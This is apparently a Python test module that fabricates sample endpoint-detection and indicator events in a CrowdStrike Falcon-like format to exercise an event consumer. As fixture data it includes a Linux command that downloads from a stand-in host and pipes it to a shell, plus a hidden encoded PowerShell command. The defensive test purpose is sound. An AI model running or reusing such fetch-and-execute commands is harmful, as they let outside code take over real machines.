"""Detections on endpoints, old and new, and hits on customers' indicators (events reference 5.1 and 5.12)."""

from __future__ import annotations

from typing import Any

from tests.emulator.events.cast import Cast, Host
from tests.emulator.events.template import seconds, serial
from tests.emulator.events.vocabulary import LINK, SEVERITIES, TECHNIQUES, disposition, mitre

Body = dict[str, Any]
_COMMANDS = {
    "Windows": (
        "powershell.exe",
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w hidden -enc SQBFAFgA \\"',
    ),
    "Linux": ("bash", "/bin/bash -c 'curl -s http://bad.example.net/x?a=1&b=2 | sh'"),
    "Mac": ("osascript", "osascript -e 'display dialog \"<update>\"'"),
}
_FOLDERS = {"Windows": "\\Device\\HarddiskVolume3\\Windows\\System32\\", "Linux": "/usr/bin/", "Mac": "/usr/bin/"}


def accesses(cast: Cast, host: Host) -> list[Body]:
    """Some network connections of a process."""
    return [
        {
            "AccessType": 0,
            "AccessTimestamp": seconds(-65 - number),
            "Protocol": "TCP",
            "LocalAddress": host.ipv6 if number % 3 == 2 else host.ip,
            "LocalPort": 49152 + number,
            "RemoteAddress": "2001:db8:ffff::53" if number % 3 == 2 else cast.outside(),
            "RemotePort": 443,
            "ConnectionDirection": 0,
            "IsIPV6": number % 3 == 2,
        }
        for number in range(cast.rng.randrange(0, 6))
    ]


def epp(cast: Cast) -> Body:
    """EppDetectionSummaryEvent: the endpoint detection of today."""
    host, user = cast.host(), cast.person()
    severity, severity_name = cast.one(SEVERITIES)
    tactic, tactic_id, technique, technique_id, pattern = cast.one(TECHNIQUES)
    process, parent = cast.process(host), cast.process(host)
    name, command = _COMMANDS[host.platform]
    folder = _FOLDERS[host.platform]
    composite = f"{cast.customer}:ind:{host.aid}:{process}-{pattern}-{serial(600000)}"
    started = -cast.rng.randrange(64, 157)
    files = [
        {"Timestamp": seconds(started), "FileName": f"x{number}.tmp", "FilePath": folder}
        for number in range(cast.rng.randrange(0, 4))
    ]
    return {
        "ProcessStartTime": seconds(started),
        "ProcessEndTime": 0,
        "ProcessId": process,
        "ParentProcessId": parent,
        "Hostname": host.name,
        "UserName": user,
        "Name": cast.one(("Suspicious Activity", "NGAV", "Known Malware", "Attacker Methodology")),
        "Description": "A script host started an encoded command line. Review the process tree.",
        "Severity": severity,
        "SeverityName": severity_name,
        "FileName": name,
        "FilePath": folder + name,
        "CommandLine": command,
        "SHA256String": cast.hex(64),
        "MD5String": cast.hex(32),
        "SHA1String": "0" * 40,
        "LogonDomain": cast.one(("EXAMPLE", "NA", "")),
        "FalconHostLink": f"{LINK}/activity-v2/detections/{composite}?_cid=g01000example",
        "AgentId": host.aid,
        "IOCType": cast.one(("hash_sha256", "domain", "")),
        "IOCValue": cast.one((cast.hex(64), "bad.example.net", "")),
        "CompositeId": composite,
        "LocalIP": host.ip,
        "MACAddress": host.mac if cast.rng.random() < 0.8 else "N/A",
        "Tactic": tactic,
        "Technique": technique,
        "Objective": cast.one(("Falcon Detection Method", "Gain Access", "Keep Access", "Follow Through")),
        **disposition(cast),
        "NetworkAccesses": accesses(cast, host),
        "DnsRequests": [{"DomainName": "bad.example.net", "RequestType": "A", "LoadTime": seconds(started)}],
        "FilesWritten": files,
        "QuarantineFiles": [{"ImageFileName": folder + name, "SHA256HashData": cast.hex(64)}],
        "ParentImageFileName": "winword.exe" if host.platform == "Windows" else "sshd",
        "ParentCommandLine": '"C:\\Program Files\\Microsoft Office\\WINWORD.EXE" invoice.docm',
        "GrandParentImageFileName": "explorer.exe",
        "GrandParentCommandLine": "C:\\Windows\\Explorer.EXE",
        "HostGroups": ",".join(cast.host_groups[: cast.rng.randrange(1, 5)]),
        "Tags": "SensorGroupingTags/finance,FalconGroupingTags/vip",
        "AssociatedFile": folder + name,
        "PatternId": pattern,
        "SourceVendors": "CrowdStrike",
        "SourceProducts": "Falcon Insight",
        "DataDomains": "Endpoint",
        "AggregateId": f"aggind:{host.aid}:{cast.rng.randrange(10**10, 10**11)}",
        "Type": cast.one(("ldt", "ofp")),
        "ParentImageFilePath": folder + "winword.exe",
        "GrandParentImageFilePath": folder + "explorer.exe",
        "PlatformId": str(("Windows", "Mac", "Linux").index(host.platform)),
        "PlatformName": host.platform,
        "LocalIPv6": host.ipv6 if cast.rng.random() < 0.5 else "",
        "MitreAttack": [mitre(tactic, tactic_id, technique, technique_id, pattern)],
    }


def legacy(cast: Cast) -> Body:
    """DetectionSummaryEvent: the endpoint detection until 2025."""
    host = cast.host("Windows")
    tactic, _, technique, _, pattern = cast.one(TECHNIQUES)
    detection = cast.rng.randrange(10**10, 10**11)
    severity = cast.rng.randrange(1, 6)
    started = -cast.one((1, 3, 66, 86400, 432000))
    user = cast.person()
    return {
        "ProcessStartTime": seconds(started),
        "ProcessEndTime": seconds(started + 1),
        "ProcessId": cast.process(host),
        "ParentProcessId": cast.process(host),
        "ComputerName": host.name,
        "UserName": user,
        "DetectName": cast.one(("NGAV", "Intel Detection", "Overwatch Detection")),
        "DetectDescription": "File is above the sensor ML threshold.",
        "Severity": severity,
        "SeverityName": SEVERITIES[severity - 1][1],
        "FileName": "setup.exe",
        "FilePath": f"\\Device\\HarddiskVolume2\\Users\\{user}\\Downloads",
        "CommandLine": f'"C:\\Users\\{user}\\Downloads\\setup.exe" ',
        "SHA256String": cast.hex(64),
        "MD5String": cast.hex(32),
        "SHA1String": "0" * 40,
        "MachineDomain": "LAB",
        "ExecutablesWritten": [{"Timestamp": seconds(started), "FileName": "a.exe", "FilePath": "\\Device\\Temp"}],
        "NetworkAccesses": accesses(cast, host),
        "FalconHostLink": f"{LINK}/activity/detections/detail/{host.aid}/{detection}?_cid={cast.customer}",
        "SensorId": host.aid,
        "DetectId": f"ldt:{host.aid}:{detection}",
        "LocalIP": host.ip,
        "MACAddress": host.mac,
        "Tactic": tactic,
        "Technique": technique,
        "Objective": "Falcon Detection Method",
        **disposition(cast),
        "GrandparentImageFileName": "\\Device\\HarddiskVolume2\\Windows\\explorer.exe",
        "GrandparentCommandLine": "C:\\Windows\\Explorer.EXE",
        "ParentImageFileName": "\\Device\\HarddiskVolume2\\Windows\\System32\\cmd.exe",
        "ParentCommandLine": "cmd.exe /c start",
        "PatternId": pattern,
    }


def custom_ioc(cast: Cast) -> Body:
    """CustomerIOCEvent: ids as strings, exactly one indicator."""
    host = cast.host()
    name, value = cast.one(
        (
            ("DomainName", "bad.example.net"),
            ("MD5String", cast.hex(32)),
            ("SHA256String", cast.hex(64)),
            ("IPv4", cast.outside()),
            ("IPv6", "2001:db8::bad"),
        )
    )
    return {
        "AgentIdString": host.aid,
        "ProcessId": str(cast.process(host)),
        "ComputerName": host.name,
        name: value,
        "ParentProcessId": "",
        "FileName": _COMMANDS[host.platform][0],
        "FilePath": _FOLDERS[host.platform],
        "CommandLine": _COMMANDS[host.platform][1],
        "DeviceId": host.aid,
        "ProcessStartTime": seconds(-66),
    }


def hash_spreading(cast: Cast) -> Body:
    """HashSpreadingEvent: only `AlertTime` is public, the rest is a guess."""
    return {"AlertTime": seconds(), "SHA256String": cast.hex(64), "HashSpreadingSensorEventTime": seconds(-30)}
